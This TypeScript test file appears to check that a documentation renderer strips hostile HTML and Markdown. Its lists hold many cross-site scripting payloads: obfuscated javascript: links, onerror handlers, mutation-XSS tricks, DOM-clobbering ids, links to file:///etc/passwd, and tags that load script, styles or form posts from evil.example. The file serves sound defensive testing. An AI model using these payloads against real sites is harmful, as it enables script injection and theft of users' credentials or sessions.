import {expect, test} from 'vitest';
import type {BodyElement} from '../../../plugin/publish/props.js';
import {dangersIn} from './dangers.js';
import {parseElements, render, resolve} from './render.js';

const HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT src=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x" src=ok.png longdesc="javascript:alert(1)" usemap="#x">',
  '<picture><source srcset="javascript:alert(1)"><img src="ok.png"></picture>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<svg onload=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0" class="navbar modal">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<video src=x onerror=alert(1)></video><audio autoplay></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a id="location" name="cookie">x</a><div id="__docusaurus"></div>',
  '<h2 id="x" name="getElementById">x</h2>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="\\\\evil.example\\x">x</a>',
  '<a href="ok.md" target="_blank" ping="https://evil.example" download>x</a>',
  '<div data-x="1" aria-hidden="true" role="dialog" tabindex="0" contenteditable>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title><xmp><b></xmp><plaintext>',
  '<template><img src=x onerror=alert(1)></template>',
  '<b title="</b><script>alert(1)</script>">x</b>',
  '<a b"c><script>alert(1)</script>">x</a>',
  '<p/onclick=alert(1)/title=x>x</p>',
  '<b\u00A0onclick=alert(1)>x</b>',
  '<table><tr><td><style><!--</style><img src=x onerror=alert(1)>--></style></td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)><!-- -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><!DOCTYPE html [<!ENTITY x "y">]>',
  '<execplans-box state="done" onclick="alert(1)"></execplans-box><mermaid value="x"></mermaid>',
  '<admonition type="note">x</admonition><Tabs><TabItem>x</TabItem></Tabs>',
  '<code class="language-js evil" metastring="x">x</code><pre class="x">y</pre>',
  '<li class="task-list-item evil">x</li><section data-footnotes class="footnotes evil"></section>',
];

const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1) "t")',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java%0Ascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)',
  '<javascript:alert(1)> <data:text/html,x>',
  '[x][r] ![x][r]\n\n[r]: javascript:alert(1)',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![" onerror="alert(1)](ok.png "\\" onerror=\\"alert(1)")',
  '```"onclick=alert(1)" <b>\n<script>alert(1)</script>\n```',
  '```mermaid\n</pre><script>alert(1)</script>\n```',
  '## <script>alert(1)</script> {#x}',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '- [~] <img src=x onerror=alert(1)>',
  'x[^<script>]\n\n[^<script>]: <b onclick=alert(1)>x</b>',
  '[a](link:0) [b](asset:1) ![c](asset:99)',
];

/** Raw HTML is read in other ways in a block, in a sentence, in a table and around Markdown. */
const PLACES: [string, (html: string) => string][] = [
  ['as a block', (html) => html],
  ['in a sentence', (html) => `Before *it* ${html} after.`],
  ['in a list', (html) => `- one\n- ${html}\n`],
  ['in a table', (html) => `| a |\n| - |\n| ${html.replaceAll('|', '')} |\n`],
  ['in a heading', (html) => `# title\n\n## ${html} {#x}`],
  ['around Markdown', (html) => html.split('>').join('>\n\n[md](ok.md)\n\n')],
];

test.each(PLACES)('no HTML gets through %s', async (_, place) => {
  for (const html of HTML) {
    const body = await render(place(html));
    expect(body.plain, html).toBe(false);
    expect(resolve(body).elements.flatMap(dangersIn), html).toEqual([]);
  }
});

test.each(MARKDOWN)('%j does no harm', async (text) => {
  const body = await render(text);
  expect(body.plain).toBe(false);
  expect(resolve(body).elements.flatMap(dangersIn)).toEqual([]);
});

test('the lists of this test find what they are for', () => {
  const bad: BodyElement[] = [
    ['script', {}],
    ['p', {onClick: 'x'}, ['a', {href: 'javascript:x'}]],
    ['p', {className: 'navbar', id: 'location', style: 'x'}],
  ];
  expect(bad.flatMap(dangersIn)).toHaveLength(6);
});

test('a table of contents holds nothing but text and its own tags', async () => {
  const body = await render(
    '# T\n\n## <img src=x onerror=alert(1)> `<b>` & "q" <script>x</script>\n',
  );
  expect(body.toc.map(({value}) => value)).toEqual([
    '<code>&lt;b&gt;</code> &amp; &quot;q&quot; &lt;script&gt;x&lt;/script&gt;',
  ]);
});

test('a hostile resolution is not written down', async () => {
  const {resolveBody} = await import('../../../plugin/publish/body/resolveBody.js');
  const body = await render('[x](a.md)');
  for (const href of ['javascript:alert(1)', '//evil.example', '/\\evil.example', 'a.md', '']) {
    expect(parseElements(resolveBody(body, () => ({href})).json)).toEqual([
      ['p', {}, ['span', {className: 'execplans-dead-link', title: 'a.md'}, 'x']],
    ]);
  }
});
